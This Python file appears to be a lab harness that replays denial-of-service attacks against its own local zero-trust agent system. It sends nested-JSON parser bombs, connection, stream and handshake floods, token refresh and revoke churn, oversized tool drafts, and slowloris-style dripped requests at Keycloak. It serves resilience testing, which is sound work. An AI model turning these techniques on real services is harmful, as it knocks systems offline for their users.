"""What crowds: each attack as it was carried out against this system before it had bounds.

An attack runs for ever, in many tasks, until its process is ended; `seen` counts what it was answered.
"""

import asyncio
import json
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from dataclasses import dataclass
from typing import Any

import httpx

from demo.refusals import Intruder, end_of, tool_call
from lab.crowding.wire import Wire, json_bytes
from local.keycloak import URL
from local.manual_steps import EVERYTHING
from local.system import System
from zerotrust.registry.feed import PATH as FEED
from zerotrust.registry.snapshot import REGISTRY_PARTY
from zerotrust.spiffe.tls import client_context, user_context
from zt.login import sign_in

MIB = 1 << 20
DEEP = b'{"kind":[' + b",".join([b"[" * 60 + b"]" * 60] * (MIB // 121 - 1)) + b"]}"
MANY = b'{"kind":[' + b",".join([b'{"":0}'] * (MIB // 7 - 2)) + b"]}"
"""Good JSON of nearly 1 MiB that took the parser and the checks behind it half a second."""
MARGIN = 15
"""Seconds before its end at which an attacker renews a token."""
WRITE = "agent.invoke tool.write inference.run"


@dataclass(slots=True)
class Attacker:
    """Who attacks: a user who may sign in, or code inside a compromised party."""

    system: System
    intruder: Intruder
    seen: Counter[str]

    def wire(self, name: str, tls: Any = None) -> Wire:
        """A connection to a party, without a certificate where none is given."""
        directory, address = self.system.directory, self.system.address(name)
        tls = tls or user_context(self.system.authority.ca_file.read_text(), directory.parties)
        return Wire(self.system.place(name), directory.names[address], tls)

    async def inside(self, who: str, name: str) -> Wire:
        """A connection to `name` with the certificate of the workload `who`."""
        return self.wire(name, client_context(await self.system.svid(who), self.system.directory.parties))

    async def login(self, user: str, client: str, scope: str) -> Any:
        """Sign a user in, at any client."""
        keycloak = self.system.keycloak
        return await sign_in(keycloak.issuer, client, user, keycloak.passwords[user], scope, verify=keycloak.tls)

    async def often(self, at_once: int, once: Callable[[int], Awaitable[object]]) -> None:
        """Do it again and again, in so many tasks."""

        async def one(number: int) -> None:
            while True:
                try:
                    self.seen[str(await once(number))] += 1
                except (OSError, EOFError, TimeoutError, httpx.HTTPError) as error:
                    self.seen[type(error).__name__] += 1
                    await asyncio.sleep(0.05)

        await asyncio.gather(*(one(number) for number in range(at_once)))


class Renewed:
    """A token that is asked for again before it ends; one request for it at a time."""

    def __init__(self, get: Callable[[], Awaitable[str]]) -> None:
        self._get, self._token, self._one = get, "", asyncio.Lock()

    async def now(self) -> str:
        """The token."""
        async with self._one:
            if not self._token or end_of(self._token) < time.time() + MARGIN:
                self._token = await self._get()
            return self._token


async def nested_bodies(attacker: Attacker) -> None:
    """eve, in no department: 1 MiB of nested JSON at the registry's operators' door, and at the orchestrator."""

    async def operator() -> str:
        return str((await attacker.login("eve", "zt", "registry.admin")).access_token)

    async def user() -> str:
        return str((await attacker.login("eve", "walkthrough", EVERYTHING)).access_token)

    doors = [(REGISTRY_PARTY, "/revocations", Renewed(operator)), ("orchestrator", "/tasks", Renewed(user))]
    for *_, token in doors:  # before the attack begins: its tasks do not wait for the sign-ins
        await token.now()
    wires = [attacker.wire(doors[number % 2][0]) for number in range(60)]

    async def once(number: int) -> object:
        _, path, token = doors[number % 2]
        return await wires[number].ask(
            "POST", path, await token.now(), (DEEP, MANY)[number // 2 % 2], content_type="application/json"
        )

    await attacker.often(len(wires), once)


async def streams(attacker: Attacker) -> None:
    """A compromised writer: 620 streams of the feed of the registry, each begun again when it ends.

    Not the reader: what passes through a compromised agent, that agent can stop whatever anybody does.
    """

    async def once(_number: int) -> object:
        wire = await attacker.inside("agent/writer", REGISTRY_PARTY)
        return "streamed" if await wire.listen(FEED) else "ended at once"

    await attacker.often(620, once)


async def revocations(attacker: Attacker) -> None:
    """eve again: she refreshes her session and revokes the token that she got, in 20 sessions at once (RFC 7009)."""
    keycloak = attacker.system.keycloak
    sessions = [await attacker.login("eve", "walkthrough", "task.run") for _ in range(20)]
    refresh = [session.refresh_token for session in sessions]
    async with httpx.AsyncClient(verify=keycloak.tls, trust_env=False, timeout=30) as http:
        endpoint = f"{keycloak.issuer}/protocol/openid-connect"

        async def once(number: int) -> object:
            form = {"grant_type": "refresh_token", "client_id": "walkthrough", "refresh_token": refresh[number]}
            answer = await http.post(f"{endpoint}/token", data=form)
            if answer.status_code != 200:  # the session has been ended
                refresh[number] = (await attacker.login("eve", "walkthrough", "task.run")).refresh_token
                return f"refresh {answer.status_code}"
            refresh[number] = answer.json()["refresh_token"]
            form = {"client_id": "walkthrough", "token": answer.json()["access_token"]}
            return f"revoke {(await http.post(f'{endpoint}/revoke', data=form)).status_code}"

        await attacker.often(len(sessions), once)


async def refusals(attacker: Attacker) -> None:
    """eve: as many calls as she can make that are refused, for each of them was written down."""
    token = Renewed(lambda: attacker.intruder.login("eve"))
    wires = [attacker.wire("orchestrator") for _ in range(20)]

    async def once(number: int) -> object:
        return await wires[number].ask("POST", "/plan", await token.now(), b'{"request":"x"}')

    await attacker.often(len(wires), once)


async def drafts(attacker: Attacker) -> None:
    """A compromised writer: one draft of 60,000 characters after the other, for alice."""

    async def get() -> str:
        t1 = await attacker.intruder.token("orchestrator", await t0.now(), "agent/writer", WRITE)
        return await attacker.intruder.token("agent/writer", t1, "tool/documents", "tool.write")

    t0 = Renewed(lambda: attacker.intruder.login("alice"))
    token = Renewed(get)
    call = tool_call("create", title="pager storm", text="x" * 60_000)

    async def once(_number: int) -> object:
        answer = await attacker.intruder.post("agent/writer", "tool/documents", "/mcp", await token.now(), **call)
        error = answer.json().get("error") or answer.json().get("result", {})
        return f"{answer.status_code} {'refused' if error.get('isError') or 'code' in error else 'filed'}"

    await attacker.often(4, once)


async def tasks(attacker: Attacker) -> None:
    """alice: 500 tasks at once, each on a connection of its own."""
    token = Renewed(lambda: attacker.intruder.login("alice"))
    wires = [attacker.wire("orchestrator") for _ in range(500)]
    body = json_bytes({"request": "Summarise the incident reports of my department."})

    async def once(number: int) -> object:
        return await wires[number].ask("POST", "/tasks", await token.now(), body, content_type="application/json")

    await attacker.often(len(wires), once)


async def handshakes(attacker: Attacker) -> None:
    """A stranger: one handshake after the other at the registry, as many as this machine can do."""
    wires = [attacker.wire(REGISTRY_PARTY) for _ in range(100)]

    async def once(number: int) -> object:
        await wires[number].greet()
        return "connected"

    await attacker.often(len(wires), once)


async def questions(attacker: Attacker) -> None:
    """A stranger: 200 connections that ask the registry for its health, as often as it answers."""
    wires = [attacker.wire(REGISTRY_PARTY) for _ in range(200)]

    async def once(number: int) -> object:
        return await wires[number].ask("GET", "/health")

    await attacker.often(len(wires), once)


async def slow_requests(attacker: Attacker) -> None:
    """A stranger: 100 requests at Keycloak at a time; each is given up after 15 s, and begun again.

    Keycloak keeps a thread for each, which used to be one of 50: 60 such requests stopped everybody.
    """
    keycloak = attacker.system.keycloak
    wires = [Wire(URL, "localhost", keycloak.tls) for _ in range(100)]
    path = f"{keycloak.issuer.removeprefix(URL)}/protocol/openid-connect/token"

    async def once(number: int) -> object:
        answer = await wires[number].drip(path, 15, content_type="application/x-www-form-urlencoded")
        return answer.split(b" ", 2)[1].decode() if answer else "waited for"

    await attacker.often(len(wires), once)


Attack = Callable[[Attacker], Coroutine[Any, Any, None]]
ATTACKS: dict[str, Attack] = {
    "nested bodies": nested_bodies,
    "streams": streams,
    "revocations": revocations,
    "refusals": refusals,
    "drafts": drafts,
    "tasks": tasks,
    "handshakes": handshakes,
    "questions": questions,
    "slow requests at Keycloak": slow_requests,
}


def counted(seen: Counter[str]) -> str:
    """What an attacker was answered, as one line of JSON."""
    return json.dumps(dict(seen))
